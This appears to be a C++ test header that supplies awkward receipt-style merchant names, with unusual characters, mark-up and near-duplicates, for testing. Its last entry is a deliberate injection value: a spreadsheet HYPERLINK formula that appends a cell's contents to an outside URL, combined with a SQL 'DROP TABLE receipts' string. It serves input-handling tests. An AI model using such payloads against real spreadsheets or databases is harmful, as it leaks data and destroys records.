// SPDX-License-Identifier: GPL-3.0-only
#pragma once

#include <QStringList>

namespace oa::test {

/// As receipts have them: long, in capitals, with marks for line breaks, stars and mark-up; some alike but for a few
/// characters.
inline QStringList uglyNames()
{
    return {QStringLiteral("WALGREENS #05431 · 1201 MARKET ST, SAN FRANCISCO CA · THANK YOU FOR SHOPPING"),
            QStringLiteral("WALGREENS #05431 · 1201 MARKET ST, SAN FRANCISCO CA · THANK YOU FOR COMING!!"),
            QStringLiteral("***** STAR MARKET ***** ⏎ 33 Kilmarnock St ⏎ Boston, MA 02215 ⏎ *** 617-555-0140"),
            QStringLiteral("WALGREENS #15431 · 1201 MARKET ST, SAN FRANCISCO CA · THANK YOU FOR SHOPPING"),
            QStringLiteral("cvs"),
            QStringLiteral("Größe & Söhne <b>Bürobedarf</b> GmbH & Co. KG, Filiale Schönhauser Allee 78–80"),
            QStringLiteral("TRADER JOE'S #226 ⏎ 1427 SHATTUCK AVE ⏎ BERKELEY CA ⏎ STORE # 226 OPEN 8-21"),
            QStringLiteral("TRADER JOE'S #227 ⏎ 1427 SHATTUCK AVE ⏎ BERKELEY CA ⏎ STORE # 226 OPEN 8-21"),
            QStringLiteral("スターバックスコーヒー 渋谷スクランブルスクエア店 二〇二四年 レシート 控え"),
            QStringLiteral("=HYPERLINK(\"http://example.com/?\"&A1) Robert'); DROP TABLE receipts; --  twice")};
}

} // namespace oa::test
